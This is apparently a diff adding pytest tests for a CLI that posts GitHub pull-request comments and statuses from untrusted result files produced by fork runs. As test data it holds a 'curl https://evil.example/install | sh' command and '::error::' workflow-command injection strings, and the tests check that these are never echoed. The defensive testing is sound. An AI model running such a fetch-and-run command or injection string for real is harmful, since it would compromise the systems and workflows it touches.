@@ -1,0 +1,263 @@
+"""`gate comment`: a result file and a pull request number that a stranger chose, a token that may write."""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fake_github import HOME, TOKEN, Answer, FakeGitHub, pull
+from results import example
+
+from gate.cli.comment import command
+from gate.errors import GateError
+from gate.github.comment import marker
+from gate.github.untrusted import SIZE_LIMIT, read_untrusted
+from gate.report import to_json
+
+SHA = "3484a3fb816e0859fd6e1cea078d76385ff50625"
+FORK = "stranger/Hello-World"
+Run = Callable[..., int]
+
+
+@pytest.fixture
+def result(tmp_path: Path) -> Path:
+    path = tmp_path / "gate-result.json"
+    path.write_text(to_json(example("FAIL")), encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def run(github: FakeGitHub, event: Callable[..., Path], result: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
+    """`gate comment RESULT ...` in a job that workflow_run started, after a fork's run."""
+    github.pulls = [pull(7, SHA, FORK, "fix")]
+
+    def of_fork(data: Any) -> None:
+        one = data["workflow_run"]
+        one |= {
+            "event": "pull_request",
+            "pull_requests": [],
+            "head_branch": "fix",
+            "conclusion": "failure",
+            "id": 99,
+        }
+        one["head_repository"]["full_name"] = FORK
+
+    variables = {
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_EVENT_NAME": "workflow_run",
+        "GITHUB_EVENT_PATH": str(event("workflow_run", of_fork)),
+        "GITHUB_REPOSITORY": HOME,
+        "GITHUB_API_URL": github.url,
+        "GITHUB_TOKEN": TOKEN,
+    }
+    for name in [name for name in os.environ if name.startswith(("GITHUB_", "GH_"))]:
+        monkeypatch.delenv(name)
+    for name, value in variables.items():
+        monkeypatch.setenv(name, value)
+
+    def go(*arguments: str) -> int:
+        return int(command.main([str(result), *arguments], standalone_mode=False))
+
+    return go
+
+
+def test_the_forks_pull_request_gets_its_comment(run: Run, github: FakeGitHub) -> None:
+    assert run() == 0
+    body = github.comments[0]["body"]
+    assert body.startswith(f"{marker('quantgate')}\n## ❌ quantgate: FAIL\n")
+    assert f"(https://github.com/{HOME}/actions/runs/99)" in body
+    assert "the pull request's author could have changed the run" in body
+    assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]
+
+
+def test_no_command_of_the_file_is_shown(run: Run, result: Path, github: FakeGitHub) -> None:
+    data = json.loads(result.read_text())
+    data["provenance"]["reproduce"] = ["curl https://evil.example/install | sh"]
+    result.write_text(json.dumps(data))
+    assert run() == 0
+    body = github.comments[0]["body"]
+    assert "curl" not in body
+    assert "evil" not in body
+    assert "How to reproduce" not in body
+
+
+def test_the_number_is_checked_against_the_run(run: Run, github: FakeGitHub) -> None:
+    github.pulls.append(pull(8, "a" * 40, HOME, "main-work"))
+    github.pulls.append(pull(9, SHA, HOME, "same commit, another repository"))
+    assert run("--pr", "7") == 0
+    for number in ("8", "9"):
+        with pytest.raises(GateError) as caught:
+            run("--pr", number)
+        assert caught.value.exit_code == 2
+    assert len(github.comments) == 1
+    assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]
+
+
+def test_a_pull_request_that_moved_on_or_was_closed_is_left_alone(
+    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str]
+) -> None:
+    github.pulls = [pull(7, "a" * 40, FORK, "fix")]
+    assert run() == 0
+    assert "no open pull request" in capsys.readouterr().err
+    github.pulls = [pull(7, SHA, FORK, "fix", state="closed")]
+    assert run("--pr", "7") == 0
+    assert "pull request 7 is closed" in capsys.readouterr().err
+    assert github.comments == []
+
+
+def test_a_status_for_branch_protection(run: Run, github: FakeGitHub) -> None:
+    assert run("--status-context", "quantgate") == 0
+    status = github.statuses[0]
+    assert (status["sha"], status["state"], status["context"]) == (SHA, "failure", "quantgate")
+
+
+def test_a_pass_of_a_run_that_failed_is_not_believed(run: Run, github: FakeGitHub, result: Path) -> None:
+    result.write_text(to_json(example("PASS")), encoding="utf-8")
+    assert run("--status-context", "quantgate") == 0
+    assert github.statuses[0]["state"] == "error"
+    assert github.statuses[0]["description"] == "The result says PASS, but the run ended with failure."
+
+
+@pytest.mark.parametrize("status", [403, 404])
+def test_a_refusal_is_a_warning_and_not_a_verdict(
+    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], status: int
+) -> None:
+    github.fail("POST", "comments", Answer(status, {"message": "Resource not accessible by integration"}))
+    assert run() == 4
+    said = capsys.readouterr().err
+    assert said.startswith("::warning title=quantgate::No pull-request comment: ")
+    assert "permissions: pull-requests: write" in said
+
+
+def test_a_dry_run_sends_nothing(
+    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert run("--dry-run", "--name", "nightly") == 0
+    assert "pull request 7" in (told := capsys.readouterr()).err
+    assert told.out.startswith(marker("nightly"))
+    monkeypatch.delenv("GITHUB_TOKEN")
+    assert run("--dry-run") == 0
+    assert capsys.readouterr().out.startswith(marker("quantgate"))
+    assert github.sent("POST") == []
+
+
+def test_outside_of_github_repository_commit_and_number_are_named(
+    run: Run, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in (
+        "GITHUB_ACTIONS",
+        "GITHUB_EVENT_NAME",
+        "GITHUB_EVENT_PATH",
+        "GITHUB_REPOSITORY",
+        "GITHUB_TOKEN",
+    ):
+        monkeypatch.delenv(name)
+    with pytest.raises(GateError, match="--repo"):
+        run("--dry-run", "--pr", "7") if monkeypatch.setenv("GH_TOKEN", TOKEN) is None else None
+    assert run("--repo", HOME, "--pr", "7") == 0
+    assert run("--repo", HOME, "--sha", SHA) == 0
+    assert run("--repo", HOME, "--pr", "7", "--sha", SHA) == 0
+    assert len(github.comments) == 1
+    with pytest.raises(GateError, match="expected --sha"):
+        run("--repo", HOME, "--pr", "7", "--sha", "b" * 40)
+    with pytest.raises(GateError, match="40 hexadecimal digits"):
+        run("--repo", HOME, "--sha", "main")
+    monkeypatch.delenv("GH_TOKEN")
+    with pytest.raises(GateError, match="no GitHub token"):
+        run("--repo", HOME, "--pr", "7")
+
+
+def put(path: Path, data: Any, *keys: str | int) -> Any:
+    """Return the file's JSON with the last of `keys` at the place of the others."""
+    found = json.loads(path.read_text(encoding="utf-8"))
+    here = found
+    for key in keys[:-1]:
+        here = here[key]
+    here[keys[-1]] = data
+    return found
+
+
+REFUSED: list[tuple[str, tuple[Any, ...]]] = [
+    ("exit code does not fit", (0, "exit_code")),
+    ("exit code does not fit", ("PASS", "verdict")),
+    ("proportion or p-value", (1.5, "p_value")),
+    ("proportion or p-value", (-0.1, "tasks", 0, "p_exact")),
+    ("counts do not fit", (10**6, "tasks", 0, "regressions")),
+    ("counts do not fit", (0, "tasks", 0, "n")),
+    ("alpha", (0.0, "alpha")),
+    ("no tasks", ([], "tasks")),
+    ("not finite", (1e300, "tasks", 0, "drop")),
+    ("not finite", (10**40, "provenance", "seed")),
+    ("a text has", ("x" * 20_001, "reasons", 0)),
+    ("a text has", ({"k" * 20_001: 1}, "baseline")),
+    ("a list has", (["x"] * 2_001, "notes")),
+    ("a list has", ({"deep": [[0] * 3_000]}, "provenance")),
+    ("verdict", ("WON", "verdict")),
+    ("p_value", ("0.5", "p_value")),
+    ("p_value", (True, "p_value")),
+    ("surprise: Extra", (1, "surprise")),
+    ("schema_version", (2, "schema_version")),
+]
+
+
+@pytest.mark.parametrize(("words", "change"), REFUSED)
+def test_files_that_no_run_wrote_are_refused(result: Path, words: str, change: tuple[Any, ...]) -> None:
+    result.write_text(json.dumps(put(result, *change)), encoding="utf-8")
+    with pytest.raises(GateError, match=words) as caught:
+        read_untrusted(result)
+    assert caught.value.exit_code == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "[]", "null", "{", "\xff\xfe", "[" * 100_000, '{"a":' * 100_000, "9" * 100_000, '{"p_value": NaN}'],
+)
+def test_texts_that_are_no_result_are_refused(result: Path, text: str) -> None:
+    result.write_bytes(text.encode("latin-1"))
+    with pytest.raises(GateError, match="refused"):
+        read_untrusted(result)
+
+
+@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
+def test_numbers_that_are_not_finite_are_refused(result: Path, number: str) -> None:
+    text = result.read_text(encoding="utf-8").replace('"mde": ', f'"mde": {number}, "_": ', 1)
+    for one in (text, text.replace(f'"mde": {number}, "_": ', f'"mde": {number}, "kl_mean": ')):
+        result.write_text(one, encoding="utf-8")
+        with pytest.raises(GateError, match="refused"):
+            read_untrusted(result)
+
+
+def test_large_files_links_and_folders_are_refused(result: Path, tmp_path: Path) -> None:
+    (tmp_path / "link.json").symlink_to(result)
+    for path in (tmp_path / "link.json", tmp_path):
+        with pytest.raises(GateError, match="not a plain file"):
+            read_untrusted(path)
+    result.write_bytes(result.read_bytes() + b" " * SIZE_LIMIT)
+    with pytest.raises(GateError, match="larger than 5 MiB"):
+        read_untrusted(result)
+    with pytest.raises(GateError, match="does not exist"):
+        read_untrusted(tmp_path / "none.json")
+
+
+def test_a_refusal_never_quotes_the_file(result: Path) -> None:
+    result.write_text(json.dumps(put(result, "@octocat::error::pwned", "exit_code")), encoding="utf-8")
+    with pytest.raises(GateError) as caught:
+        read_untrusted(result)
+    assert "octocat" not in str(caught.value)
+    result.write_text(json.dumps(put(result, 1, "@octocat::error::pwned\n::error::x")), encoding="utf-8")
+    with pytest.raises(GateError) as caught:
+        read_untrusted(result)
+    assert "::" not in str(caught.value)
+
+
+@pytest.mark.parametrize("verdict", ["PASS", "FAIL", "INCONCLUSIVE"])
+def test_what_a_run_wrote_is_taken(tmp_path: Path, verdict: str) -> None:
+    path = tmp_path / "gate-result.json"
+    path.write_text(to_json(example(verdict)), encoding="utf-8")
+    known = read_untrusted(path)
+    assert set(known.provenance) == {"quantgate", "seed"}
+    assert known.tasks == example(verdict).tasks
